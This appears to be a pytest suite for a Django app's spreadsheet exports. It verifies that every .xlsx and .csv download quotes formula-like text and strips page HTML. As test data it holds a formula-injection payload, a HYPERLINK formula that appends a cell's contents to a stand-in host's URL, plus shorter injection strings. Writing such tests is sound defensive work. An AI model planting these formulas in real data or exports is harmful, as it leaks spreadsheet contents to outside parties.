"""Every .xlsx and .csv the app writes holds text as text: no formula, no HTML (issue 15).

The battery loops over a registry of export paths (`EXPORTS`: every list page found in the
URL conf, every figure's drill-down, every import template, and the declared special
exports: books, assessment, plan, progress, data quality, monitoring). A new list is
covered by being routed; a new special export by being declared here, and
`test_every_writer_call_is_declared` fails until it is. Each export is fetched in a world
whose names and texts hold a formula-like and an HTML-like value, and each cell is checked.
"""

from __future__ import annotations

import ast
import csv
import datetime
import io
import re
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils.safestring import mark_safe
from django.utils.translation import gettext_lazy
from hypothesis import given
from hypothesis import strategies as st

from bangfu.core import normalize
from bangfu.core.imports import Layout
from bangfu.core.spreadsheets import (
    SheetSpec,
    cell,
    cell_column,
    read_rows,
    write_xlsx,
)

FORMULA = '=HYPERLINK("http://x.example/?"&A2,"点此")'  # in free text (titles, notes)
HTML = '<b class="x">粗体</b> & "引号"'
# In names, which lists of names in one cell split at spaces, commas and slashes.
FORMULA_NAME = '=HYPERLINK("x"&A2)'
HTML_NAME = '<br>粗&"引"'
VALUES = {"formula": (FORMULA, FORMULA_NAME), "html": (HTML, HTML_NAME)}
# Markup a page makes (tags, escaped text); the HTML-like value itself is the user's text.
PAGE_MARKUP = re.compile(r"<(?:span|a|div|i|b|strong|br|td|p)\b[^>]*>|&(?:lt|gt|amp|quot|#\d+);")


# --- the cell function ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [FORMULA, "+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "-", "'=1", "''=1", "'-1"],
)
def test_text_a_spreadsheet_would_run_gets_the_protective_quote(value):
    assert cell(value) == "'" + value
    assert normalize.unquote(cell(value)) == value


@pytest.mark.parametrize(
    "value",
    [-5, -2.5, Decimal("-3.10"), 0, 7, None, True, datetime.date(2016, 3, 1), "-12", "-12.5"],
)
def test_numbers_negative_ones_too_dates_and_plain_negative_numbers_stay_as_they_are(value):
    assert cell(value) == value and type(cell(value)) is type(value)


@pytest.mark.parametrize("value", ["走访", "张三", "a=b", "'s", "O'Neil", "520524", ""])
def test_ordinary_text_is_untouched(value):
    assert cell(value) == value


def test_page_html_becomes_its_plain_text_and_lazy_text_its_text():
    assert cell(mark_safe('2016-05-01 <span class="badge">逾期</span>')) == "2016-05-01 逾期"
    assert cell(mark_safe("&lt;b&gt; &amp; =x")) == "<b> & =x"
    assert cell(mark_safe("<i>=1+1</i>")) == "'=1+1"
    assert cell(gettext_lazy("是")) == "是"


@given(st.text())
def test_any_text_reads_back_as_it_was_written(value):
    assert normalize.unquote(cell(value)) == value
    tidy = " ".join(unicodedata.normalize("NFKC", value).split())
    assert normalize.text(cell(value)) == tidy  # what the import reads


@given(st.lists(st.text(), max_size=20))
def test_a_checked_column_is_what_cell_makes_of_each_value(values):
    assert list(cell_column(values)) == [cell(v) for v in values]


def test_the_xlsx_writers_write_quoted_strings_and_numbers_as_numbers(tmp_path):
    path = tmp_path / "cells.xlsx"
    rows = [[FORMULA, -5, "-5", Decimal("-2.5"), mark_safe("<span>逾期</span>")]]
    write_xlsx(str(path), [SheetSpec("数据", ["甲", "乙", "丙", "丁", "戊"], rows, (2,))])
    sheet = openpyxl.load_workbook(path).active
    assert [c.value for c in sheet[2]] == ["'" + FORMULA, -5, "-5", -2.5, "逾期"]
    assert [c.data_type for c in sheet[2]] == ["s", "n", "s", "n", "s"]
    assert list(read_rows(path))[1][0] == "'" + FORMULA  # as read: the import unquotes


# --- the world: formula-like and HTML-like values in every name and text --------------------


@pytest.fixture
def hostile(world):
    """The world with a formula-like value in unit A's names and texts and an HTML-like one
    in unit B's, plus one record of each kind the exports show."""
    from bangfu.accounts.models import AccessLog
    from bangfu.assessment.models import AssessmentResult, IndicatorScore, ResultSet
    from bangfu.assessment.tests.factories import make_scheme
    from bangfu.campaigns.models import AllocationTarget
    from bangfu.coops.models import Cooperative, DividendRun
    from bangfu.geo.models import Region
    from bangfu.ledger.models import Activity, Problem, Project
    from bangfu.orgs.models import Branch, Member, Unit
    from bangfu.registry.models import (
        Household,
        HouseholdIncome,
        HouseholdScore,
        Person,
        PovertyLine,
        ScoringSheet,
    )

    w = world
    for model, a, b in [
        (Region, w.baoshan, w.lebang),
        (Unit, w.unit_a, w.unit_b),
        (Branch, w.branch_a, w.branch_b),
        (Member, w.member_a, w.secretary_b),
    ]:
        model.objects.filter(pk=a.pk).update(name=FORMULA_NAME)
        model.objects.filter(pk=b.pk).update(name=HTML_NAME)
    Person.objects.filter(pk=w.person_a.pk).update(name=FORMULA_NAME)
    Household.objects.filter(pk=w.household_a.pk).update(head_name=FORMULA_NAME)
    Household.objects.filter(pk=w.household_b.pk).update(head_name=HTML_NAME)
    Person.objects.filter(household=w.household_b).update(name=HTML_NAME)
    Activity.objects.filter(pk=w.activity_a.pk).update(summary=FORMULA)
    Activity.objects.filter(pk=w.activity_b.pk).update(summary=HTML)
    for village, unit, title in ((w.baoshan, w.unit_a, FORMULA), (w.lebang, w.unit_b, HTML)):
        Problem.objects.create(
            campaign=w.campaign,
            village=village,
            unit=unit,
            category="industry",
            title=title,
            raised_on=datetime.date(2016, 5, 1),
            deadline=datetime.date(2016, 6, 1),  # overdue: the page shows a badge
        )
        Project.objects.create(
            campaign=w.campaign,
            village=village,
            unit=unit,
            name=title,
            date=datetime.date(2016, 6, 1),
            origin="introduced",
            sector="planting",
        )
        coop = Cooperative.objects.create(
            name=title, village=village, sector="breeding", registered_on=datetime.date(2016, 6, 1)
        )
        DividendRun.objects.create(
            coop=coop,
            year=2016,
            record_date=datetime.date(2016, 12, 31),
            profit=Decimal(100),
            total_shares=10,
            confirmed_at=datetime.datetime(2017, 1, 5, tzinfo=datetime.UTC),
        )
    PovertyLine.objects.filter(year=2016).update(note=FORMULA)
    PovertyLine.objects.filter(year=2015).update(note=HTML)
    sheet = ScoringSheet.objects.create(name=FORMULA, year=2016, threshold=Decimal(60))
    ScoringSheet.objects.create(name=HTML, year=2016, threshold=Decimal(60))
    for household in (w.household_a, w.household_b):
        HouseholdScore.objects.create(
            household=household,
            sheet=sheet,
            total=Decimal(-5),
            threshold=Decimal(60),
            proposed_poor=True,
        )
    for unit in (w.unit_a, w.unit_b):
        AllocationTarget.objects.create(
            campaign=w.campaign, unit=unit, kind="branch_village", target=1
        )
    from django.contrib.contenttypes.models import ContentType

    for text in (FORMULA, HTML):
        AccessLog.objects.create(
            user=w.users["office"],
            kind="view",
            content_type=ContentType.objects.get_for_model(Person),
            object_repr=text,
            fields=["id_number"],
        )
    # Assessment: a scheme whose indicator names and comments are the values.
    scheme = make_scheme(w)
    manual = scheme.indicators.get(kind="manual")
    scheme.indicators.filter(kind="measure").update(name=FORMULA)
    result_set = ResultSet.objects.create(
        scheme=scheme, version=1, period_start=w.campaign.start, period_end=w.campaign.end
    )
    for unit, comment, rank in ((w.unit_a, FORMULA, 1), (w.unit_b, HTML, 2)):
        result = AssessmentResult.objects.create(
            result_set=result_set, subject="unit", unit=unit, score=50, grade="fail", rank=rank
        )
        IndicatorScore.objects.create(result=result, indicator=manual, points=5, comment=comment)
    # Data quality: a household without a head, in each village. Monitoring: a lifted
    # household whose income fell back, in each village.
    for village, number in ((w.baoshan, "Q1"), (w.lebang, "Q2")):
        Household.objects.create(
            village=village,
            number=f"{village.code}{number}",
            attribute="general",
            identified_year=2014,
            main_cause="illness",
        )
    for household in (w.household_a, w.household_b):
        Household.objects.filter(pk=household.pk).update(status="lifted", exit_year=2016)
        HouseholdIncome.objects.create(household=household, year=2016, wage_income=Decimal(100))
    w.result_set = result_set
    w.result = AssessmentResult.objects.get(result_set=result_set, unit=w.unit_a)
    return w


# --- the registry of export paths ----------------------------------------------------------


@dataclass
class Export:
    """One way to download a file: a name, the URL (from the world), the formats, which of
    the world's formula-like and HTML-like values must be in it (None: any row it has
    carries one), and the functions whose writer calls it covers (for
    test_every_writer_call_is_declared)."""

    name: str
    url: Callable[[Any], str]
    formats: tuple[str, ...] = ("xlsx", "csv")
    carries_values: tuple[str, ...] | None = ("formula", "html")
    covers: tuple[str, ...] = ()
    user: str = "office"


def _list_views() -> list[Export]:
    """Every ObjectListView routed in the URL conf (their export is the table's or, with a
    layout, the layout's)."""
    from bangfu.core.views import ObjectListView

    found = []

    def walk(patterns: list, namespace: str) -> None:
        for p in patterns:
            if isinstance(p, URLResolver):
                walk(p.url_patterns, f"{namespace}{p.namespace}:" if p.namespace else namespace)
            elif isinstance(p, URLPattern):
                view = getattr(p.callback, "view_class", None)
                if view and issubclass(view, ObjectListView) and not p.pattern.converters:
                    found.append(f"{namespace}{p.name}")

    walk(get_resolver().url_patterns, "")
    return [Export(f"list {name}", lambda w, n=name: reverse(n)) for name in sorted(found)]


def _figures() -> list[Export]:
    from bangfu.dashboard.figures import BY_KEY

    return [
        Export(
            f"drill-down {key}",
            lambda w, k=key: reverse("dashboard:figure", args=[k]) + f"?campaign={w.campaign.pk}",
            carries_values=None,
        )
        for key in sorted(BY_KEY)
    ]


def _templates() -> list[Export]:
    return [
        Export(
            f"template {key}",
            lambda w, k=key: reverse("core:import_template", args=[k]),
            formats=("xlsx",),
            carries_values=(),
        )
        for key in sorted(Layout.registry)
    ]


SPECIAL = [
    Export(
        "unit book",
        lambda w: (
            reverse("ledger:book_unit", args=[w.unit_a.pk, 2016, 5, "xlsx"])
            + f"?campaign={w.campaign.pk}"
        ),
        formats=("xlsx",),
        carries_values=("formula",),  # unit A's month
        covers=("ledger.books:write_book_xlsx",),
    ),
    Export(
        "village book",
        lambda w: (
            reverse("ledger:book_village", args=[w.lebang.code, "xlsx"])
            + f"?campaign={w.campaign.pk}"
        ),
        formats=("xlsx",),
        carries_values=("html",),  # 乐邦村's entries
        covers=("ledger.books:write_book_xlsx",),
    ),
    Export(
        "assessment results",
        lambda w: reverse("assessment:resultset_detail", args=[w.result_set.pk]) + "?_export=",
        formats=("xlsx",),
        covers=("assessment.views:ResultSetDetailView.get",),
    ),
    Export(
        "score sheet",
        lambda w: reverse("assessment:result_detail", args=[w.result.pk]),
        formats=("xlsx",),
        covers=("assessment.views:ResultDetailView.get",),
        carries_values=("formula",),  # unit A's sheet
    ),
    Export(
        "allocation plan",
        lambda w: reverse("campaigns:plan") + f"?campaign={w.campaign.pk}",
        covers=("campaigns.plan_views:PlanView.get",),
    ),
    Export(
        "progress",
        lambda w: reverse("campaigns:progress") + f"?campaign={w.campaign.pk}",
        formats=("xlsx",),
        covers=("campaigns.progress_views:export_progress",),
    ),
    Export(
        "data quality",
        lambda w: reverse("registry:quality"),
        formats=("xlsx",),
        covers=("registry.quality_views:export_xlsx",),
    ),
    Export(
        "monitoring",
        lambda w: reverse("registry:monitoring") + "?year=2016",
        formats=("xlsx",),
        covers=("registry.exit_views:export_flags",),
    ),
]
# Writer calls the generic paths above cover.
GENERIC = {
    "core.views:layout_export": "every list with a layout (_list_views)",
    "core.views:ObjectListView.render_to_response": "every list with a layout (_list_views)",
    "core.tables:export_table": "every list and drill-down (_list_views, _figures)",
    "core.views:ObjectListView.create_export": "every list without a layout (_list_views)",
    "dashboard.views:FigureRecordsView.create_export": "every drill-down (_figures)",
    "core.import_views:import_template": "every template (_templates)",
    "core.imports:Layout.export_sheets": "the layout exports",
    "core.imports:Layout.template_sheets": "the templates",
    "assessment.exports:results_sheet": "assessment results",
    "assessment.exports:score_sheet_xlsx": "score sheet",
}

EXPORTS = [*_list_views(), *_figures(), *_templates(), *SPECIAL]


def _url(export: Export, world: Any, fmt: str) -> str:
    url = export.url(world)
    if export.name.endswith("book"):
        return url
    if url.endswith("_export="):
        return url + fmt
    return url + ("&" if "?" in url else "?") + f"_export={fmt}"


def _cells(content: bytes, fmt: str) -> tuple[list[list[Any]], list[str]]:
    """The file's rows of values (every sheet) and the coordinates of its formula cells."""
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        return rows, []
    book = openpyxl.load_workbook(io.BytesIO(content))
    rows, formulas = [], []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            rows.append([c.value for c in row])
            formulas += [c.coordinate for c in row if c.data_type == "f"]
    return rows, formulas


def _body(response: Any) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


@pytest.mark.parametrize(
    ("export", "fmt"),
    [(e, f) for e in EXPORTS for f in e.formats],
    ids=lambda v: v.name if isinstance(v, Export) else v,
)
def test_every_export_writes_text_as_text_and_no_html(client, hostile, export, fmt):
    client.force_login(hostile.users[export.user])
    response = client.get(_url(export, hostile, fmt))
    assert response.status_code == 200, (export.name, response.status_code)
    rows, formulas = _cells(_body(response), fmt)
    assert not formulas, f"{export.name}: formulas in {formulas}"
    texts = [v for row in rows for v in row if isinstance(v, str)]
    for value in texts:
        assert not normalize.quote_needed(value) or value.startswith("'"), (export.name, value)
        plain = value.replace(HTML, "").replace(HTML_NAME, "")
        assert not PAGE_MARKUP.search(plain), (export.name, value)
    carried = {kind for kind in VALUES if any(_carries(t, kind) for t in texts)}
    if export.carries_values is not None:
        assert carried >= set(export.carries_values), f"{export.name}: values missing"
    elif len(rows) > 1:
        assert carried, f"{export.name}: rows without the world's values"


def _carries(cell_text: str, kind: str) -> bool:
    """Whether a cell holds a value of the kind: a formula-like one quoted at its start, an
    HTML-like one as it was typed."""
    if kind == "formula":
        return any(cell_text.startswith("'" + v) for v in VALUES[kind])
    return any(v in cell_text for v in VALUES[kind])


def test_no_export_offers_other_formats(client, hostile):
    client.force_login(hostile.users["office"])
    for fmt in ("json", "yaml", "ods", "latex", "tsv"):
        assert client.get(reverse("ledger:problem_list"), {"_export": fmt}).status_code == 404


# --- round trip: an export with these values imports back unchanged ------------------------


def _layout_lists() -> list[tuple[str, str]]:
    """(URL name, layout key) of every list whose export is its import layout."""
    from django.urls import resolve

    found = []
    for export in _list_views():
        name = export.name.removeprefix("list ")
        key = resolve(reverse(name)).func.view_class.layout_key
        if key:
            found.append((name, key))
    return found


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
@pytest.mark.parametrize(("name", "key"), _layout_lists())
def test_a_layout_export_with_these_values_imports_back_unchanged(
    client, hostile, tmp_path, name, key, fmt
):
    from bangfu.registry.models import Household

    # The data-quality households have no people: their export row (person columns blank)
    # is not an importable row, whatever its values.
    Household.objects.filter(people__isnull=True).delete()
    client.force_login(hostile.users["office"])
    response = client.get(reverse(name), {"_export": fmt})
    path = tmp_path / f"export.{fmt}"
    path.write_bytes(_body(response))
    result = Layout.registry[key].run(path, hostile.users["office"], False)
    assert result.problem_count == 0, result.problems
    assert not any(result.created.values()) and not any(result.updated.values()), (
        result.created,
        result.updated,
    )


# --- every writer call is declared ---------------------------------------------------------


def _writer_calls() -> set[str]:
    """module:function of every call to a writer outside core/spreadsheets.py and tests."""
    root = Path(__file__).resolve().parents[2]
    writers = {
        "xlsx_response",
        "csv_response",
        "write_xlsx",
        "SheetSpec",
        "export_table",
        "layout_export",
    }
    found = set()
    for path in root.rglob("*.py"):
        relative = path.relative_to(root)
        if "tests" in relative.parts or relative.as_posix() == "core/spreadsheets.py":
            continue
        module = ".".join(relative.with_suffix("").parts)
        tree = ast.parse(path.read_text(encoding="utf-8"))

        def visit(node: ast.AST, where: list[str], module: str = module) -> None:
            for child in ast.iter_child_nodes(node):
                if isinstance(child, ast.FunctionDef | ast.AsyncFunctionDef | ast.ClassDef):
                    visit(child, [*where, child.name])
                    continue
                if isinstance(child, ast.Call):
                    func = child.func
                    name = getattr(func, "id", None) or getattr(func, "attr", None)
                    if name in writers and where:
                        found.add(f"{module}:{'.'.join(where)}")
                visit(child, where)

        visit(tree, [])
    return found


def test_every_writer_call_is_declared():
    declared = set(GENERIC) | {c for e in SPECIAL for c in e.covers}
    found = _writer_calls()
    assert found - declared == set(), "declare these exports in EXPORTS/SPECIAL"
    assert declared - found == set(), "these declared writer calls are gone"


@pytest.mark.parametrize(
    "key", [k for k, layout in sorted(Layout.registry.items()) if layout.export_checked]
)
def test_a_layout_that_checks_its_own_cells_gives_what_cell_would(hostile, monkeypatch, key):
    """A layout whose export the writers trust (export_checked) keeps that promise: its rows
    are `cell` of the rows it gives with its column check (cell_column) taken out."""
    import sys

    from bangfu.core.spreadsheets import cells

    layout = Layout.registry[key]
    for user in ("office", "unit_a"):  # with personal data shown and masked
        queryset, who = layout.model.objects.all(), hostile.users[user]
        checked = [list(r) for r in layout.export_rows(queryset, who)]
        with monkeypatch.context() as m:
            m.setattr(sys.modules[type(layout).__module__], "cell_column", lambda values: values)
            raw = [list(r) for r in layout.export_rows(queryset, who)]
        assert raw != checked and checked == [cells(r) for r in raw]
